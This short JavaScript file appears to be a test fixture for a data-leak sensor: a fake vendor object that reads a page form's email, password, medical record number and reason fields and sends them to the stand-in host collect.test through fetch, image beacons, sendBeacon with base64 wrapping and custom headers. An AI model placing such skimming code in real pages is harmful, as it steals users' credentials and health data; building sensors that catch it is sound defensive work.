/** A vendor that sends what is typed, in every sort of body and encoding the sensor can read. */
var taker = {
  url: (what) => "http://collect.test:{PORT}/" + what,
  values: () => Object.fromEntries(new URLSearchParams([...new FormData(document.forms[0])])),
  plain: () => fetch(taker.url("plain"), { method: "POST", body: JSON.stringify(taker.values()) }),
  query: () => void (new Image().src = taker.url("query?em=" + encodeURIComponent(taker.values().email))),
  nested: () =>
    navigator.sendBeacon(
      taker.url("nested"),
      new Blob([JSON.stringify({ data: btoa(JSON.stringify(taker.values())) })]),
    ),
  hashed: (digest) => fetch(taker.url("hashed"), { method: "POST", body: "em=" + digest }),
  header() {
    const request = new XMLHttpRequest();
    request.open("POST", taker.url("header"));
    request.setRequestHeader("x-user", taker.values().mrn);
    request.send(new URLSearchParams({ why: taker.values().reason }));
  },
  asked: () =>
    fetch(new Request(taker.url("asked"), { method: "POST", body: "p=" + taker.values().pass })),
  stream: () =>
    fetch(taker.url("stream"), {
      method: "POST",
      duplex: "half",
      body: new Blob(["x"]).stream(),
    }).catch(() => 0),
  innocent: () => fetch(taker.url("innocent?page=contact&v=2&maria=1"), { method: "POST", body: "{}" }),
};
